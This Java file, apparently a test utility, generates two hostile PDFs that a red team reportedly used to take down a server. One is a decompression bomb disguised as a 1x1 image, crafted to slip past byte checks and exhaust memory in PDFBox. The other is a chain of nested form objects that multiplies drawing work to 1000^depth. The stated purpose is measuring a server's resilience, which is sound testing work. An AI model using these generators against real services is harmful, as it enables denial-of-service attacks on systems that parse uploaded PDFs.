package dev.tether.toolsets;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.Adler32;
import java.util.zip.Deflater;

/**
 * The two PDFs a red team used to take the server down, written byte by byte (no PDFBox): each passes every byte
 * limit and check that recognises a shape, and costs unbounded memory or CPU once parsed.
 */
public final class HostilePdfs {

    private HostilePdfs() {}

    /**
     * About {@code diskBytes} on disk: one page whose content stream is labelled as an image ({@code /Subtype /Image
     * /Width /Height}, which byte checks skip) but is the page's text: a string shown again and again, about a
     * thousand times larger inflated. PDFBox keeps a position for every character of a page.
     */
    public static Path imageLabelledBomb(Path file, long diskBytes) throws IOException {
        byte[] head = "BT /F1 1 Tf 0 0 Td\n".getBytes(StandardCharsets.US_ASCII);
        byte[] line = "(AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA) Tj\n"
                .getBytes(StandardCharsets.US_ASCII);
        byte[] block = new byte[line.length * 12_000];
        for (int i = 0; i < block.length; i += line.length) {
            System.arraycopy(line, 0, block, i, line.length);
        }
        byte[] tail = "ET\n".getBytes(StandardCharsets.US_ASCII);
        byte[] blockDeflated = flushed(block);
        int repeats = (int) Math.max(1, diskBytes / blockDeflated.length);

        Adler32 check = new Adler32();
        check.update(head);
        for (int i = 0; i < repeats; i++) {
            check.update(block);
        }
        check.update(tail);
        ByteArrayOutputStream zlib = new ByteArrayOutputStream((int) diskBytes + 4096);
        zlib.write(0x78);
        zlib.write(0x9C);
        zlib.write(flushed(head));
        for (int i = 0; i < repeats; i++) {
            zlib.write(blockDeflated);
        }
        zlib.write(finished(tail));
        long sum = check.getValue();
        zlib.write(new byte[] {(byte) (sum >>> 24), (byte) (sum >>> 16), (byte) (sum >>> 8), (byte) sum});

        List<byte[]> objects = new ArrayList<>();
        objects.add(ascii("<< /Type /Catalog /Pages 2 0 R >>"));
        objects.add(ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"));
        objects.add(ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R"
                + " >> >> /Contents 4 0 R >>"));
        objects.add(stream("/Subtype /Image /Width 1 /Height 1 /Filter /FlateDecode", zlib.toByteArray()));
        objects.add(ascii("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"));
        return write(file, objects);
    }

    /**
     * About a kilobyte: the page draws form 1 a thousand times, form 1 draws form 2 a thousand times, and so on
     * {@code depth} deep: 1000^depth forms to draw, each a few bytes of work.
     */
    public static Path nestedForms(Path file, int depth) throws IOException {
        List<byte[]> objects = new ArrayList<>();
        objects.add(ascii("<< /Type /Catalog /Pages 2 0 R >>"));
        objects.add(ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"));
        // objects 4 … 3 + depth are the forms; form k names form k + 1 as /X
        objects.add(ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /X 4 0 R"
                + " >> >> /Contents " + (4 + depth) + " 0 R >>"));
        byte[] draws = ascii("/X Do ".repeat(1000));
        for (int level = 1; level <= depth; level++) {
            boolean last = level == depth;
            String resources = last ? "<< >>" : "<< /XObject << /X " + (4 + level) + " 0 R >> >>";
            objects.add(stream(
                    "/Subtype /Form /BBox [0 0 1 1] /Resources " + resources + " /Filter /FlateDecode",
                    deflate(last ? ascii("0 0 m 1 1 l S") : draws)));
        }
        objects.add(stream("/Filter /FlateDecode", deflate(draws)));
        return write(file, objects);
    }

    private static Path write(Path file, List<byte[]> objects) throws IOException {
        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
        pdf.write(ascii("%PDF-1.4\n"));
        List<Integer> offsets = new ArrayList<>();
        for (int i = 0; i < objects.size(); i++) {
            offsets.add(pdf.size());
            pdf.write(ascii((i + 1) + " 0 obj\n"));
            pdf.write(objects.get(i));
            pdf.write(ascii("\nendobj\n"));
        }
        int xref = pdf.size();
        StringBuilder table = new StringBuilder("xref\n0 " + (objects.size() + 1) + "\n0000000000 65535 f \n");
        for (int offset : offsets) {
            table.append("%010d 00000 n \n".formatted(offset));
        }
        table.append("trailer\n<< /Size ")
                .append(objects.size() + 1)
                .append(" /Root 1 0 R >>\nstartxref\n")
                .append(xref)
                .append("\n%%EOF\n");
        pdf.write(ascii(table.toString()));
        Files.write(file, pdf.toByteArray());
        return file;
    }

    private static byte[] stream(String dictionary, byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(ascii("<< " + dictionary + " /Length " + data.length + " >>\nstream\n"));
        out.writeBytes(data);
        out.writeBytes(ascii("\nendstream"));
        return out.toByteArray();
    }

    private static byte[] deflate(byte[] data) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        deflater.setInput(data);
        deflater.finish();
        byte[] out = new byte[data.length + 64];
        int length = deflater.deflate(out);
        deflater.end();
        return java.util.Arrays.copyOf(out, length);
    }

    /** Raw deflate of {@code data} ending on a byte boundary with no reference to earlier data: repeatable. */
    private static byte[] flushed(byte[] data) {
        return raw(data, Deflater.FULL_FLUSH, false);
    }

    private static byte[] finished(byte[] data) {
        return raw(data, Deflater.NO_FLUSH, true);
    }

    private static byte[] raw(byte[] data, int flush, boolean finish) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(data);
        if (finish) {
            deflater.finish();
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[1 << 16];
        while (true) {
            int length = deflater.deflate(buffer, 0, buffer.length, finish ? Deflater.NO_FLUSH : flush);
            out.write(buffer, 0, length);
            if (finish ? deflater.finished() : length < buffer.length) {
                break;
            }
        }
        deflater.end();
        return out.toByteArray();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    /** Writes both files into a folder, for measuring a server by hand: {@code HostilePdfs DIR}. */
    public static void main(String[] args) throws IOException {
        Path dir = Path.of(args[0]);
        Files.createDirectories(dir);
        imageLabelledBomb(dir.resolve("image-bomb.pdf"), 1_500_000);
        nestedForms(dir.resolve("nested-forms.pdf"), 5);
    }
}
